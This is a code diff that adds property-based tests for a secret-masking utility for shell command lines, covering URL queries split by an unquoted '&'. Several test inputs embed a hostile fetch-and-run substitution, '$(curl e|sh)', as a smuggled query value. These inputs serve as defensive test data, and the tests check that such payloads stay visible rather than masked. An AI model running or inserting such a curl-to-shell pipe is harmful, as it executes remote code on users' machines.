@@ -4,6 +4,7 @@ import { describe, expect, it } from "vitest";
 import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
 import {
   expectArgFilledBack,
+  expectArgs,
   expectFilledBack,
   exportedArgs,
   exportedCommand,
@@ -14,6 +15,10 @@ import {
 //    backslash (`-e DB_PASSWORD=${V:-Q9`id`\"}`, `--token ${V:-"Q9"$(id)}`) was read at run time
 //    whole: `Q9` kept in clear in both views. Its quotes are read as bash reads them there, each
 //    literal stretch hidden (the quotes kept where they stand), each run-time part kept in sight.
+// 2. A URL's query continued past an unquoted `&` (`srv https://h/p?b=1&token=${X}-J`): a shell
+//    runs `token=${X}-J` as a command of its own, read as an assignment whose `-J` is a short label
+//    beside a reference: kept in the display, and in a `--run` argument in both views. The pair is
+//    the URL's: its literal text is hidden as a query value's is, its run-time parts kept in sight.
 
 /** `text` without its references' names (`${V:-` and `}` aside, a default's word is looked at). */
 const outsideReferences = (text: string) => text.replace(/\$\{[A-Za-z_][A-Za-z0-9_]*(?::?[-=?+])?\}?/g, "");
@@ -87,6 +92,88 @@ describe("a pasted default's word holding a quote or a backslash", () => {
         expect(payloadsIn(shown)).toBe(payloadsIn(line));
         expectFilledBack(line);
         expectArgFilledBack([line]);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
+
+describe("a URL's query continued past an unquoted `&`", () => {
+  it.each([
+    [
+      "srv https://h/p?b=1&token=${X}-J",
+      "srv https://h/p?b=1&token=${X}•",
+      "srv https://h/p?b=1&token=${X}${TOKEN}",
+    ],
+    [
+      "srv --url https://h/p?b=1&c=2&api_key=$(curl e|sh)-J",
+      "srv --url https://h/p?b=1&c=2&api_key=$(curl e|sh)•",
+      "srv --url https://h/p?b=1&c=2",
+    ],
+    ["srv https://h/p?b=1&token=$X-J", "srv https://h/p?b=1&token=$X•", "srv https://h/p?b=1&token=${TOKEN}"],
+  ])("pasted: %s", (line, shown, exported) => {
+    expect(withoutCommandLineSecrets(line, () => "•")).toBe(shown);
+    expect(exportedCommand(line)).toBe(exported);
+    expectFilledBack(line);
+  });
+
+  it("given as a `--run` argument: hidden in both views, run-time parts in sight", () => {
+    expectArgs(
+      ["--run", "srv https://h/p?b=1&token=${X}-J"],
+      ["--run", "srv https://h/p?b=1&token=${X}•"],
+      ["--run", "srv https://h/p?b=1&token=${X}${TOKEN}"],
+    );
+    expectArgs(
+      ["--run", "srv https://h/p?b=1&token=$(curl e|sh)-J"],
+      ["--run", "srv https://h/p?b=1&token=$(curl e|sh)•"],
+      ["--run", "srv https://h/p?b=1"],
+    );
+  });
+
+  it("references alone, a pair that does not tell, or no URL before: read as before", () => {
+    for (const line of [
+      "srv https://h/p?b=1&token=${X}",
+      "srv https://h/p?b=1&token=$X",
+      "srv https://h/p?b=1&page=${X}-J",
+      "srv token=${X}-J",
+      "srv https://h/p?b=1 & token=${X}-J",
+    ]) {
+      expect(withoutCommandLineSecrets(line, () => "•")).toBe(line);
+      expect(exportedArgs(["--run", line])).toEqual(["--run", line]);
+    }
+  });
+
+  it("property: no literal of a telling pair's value in clear, each payload in sight as often as written", () => {
+    const value = fc
+      .array(
+        fc.oneof(
+          fc.stringMatching(/^[JQ-]{1,3}$/),
+          fc.constantFrom("${X}", "$X/", "$(curl e|sh)", "`curl e|sh`"),
+        ),
+        {
+          minLength: 1,
+          maxLength: 5,
+        },
+      )
+      .map((parts) => parts.join(""))
+      .filter((text) => /[JQ]/.test(text));
+    const make = fc.constantFrom(
+      (v: string) => `srv https://h/p?b=1&token=${v}`,
+      (v: string) => `srv --url https://h/p?b=1&c=2&api_key=${v} --port 80`,
+    );
+    fc.assert(
+      fc.property(make, value, (build, v) => {
+        const line = build(v);
+        const shown = withoutCommandLineSecrets(line, () => "•");
+        expect(outsideReferences(shown).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
+        expect(payloadsIn(shown)).toBe(payloadsIn(line));
+        expect(outsideReferences(exportedCommand(line) ?? line).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
+        expectFilledBack(line);
+        const args = ["--run", line];
+        const shownArgs = JSON.stringify(withoutArgSecrets(args, () => "•"));
+        expect(outsideReferences(shownArgs).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
+        expect(outsideReferences(JSON.stringify(exportedArgs(args))).replace(/\$X/g, "")).not.toMatch(/[JQ]/);
+        expectArgFilledBack(args);
       }),
       { numRuns: 300 },
     );
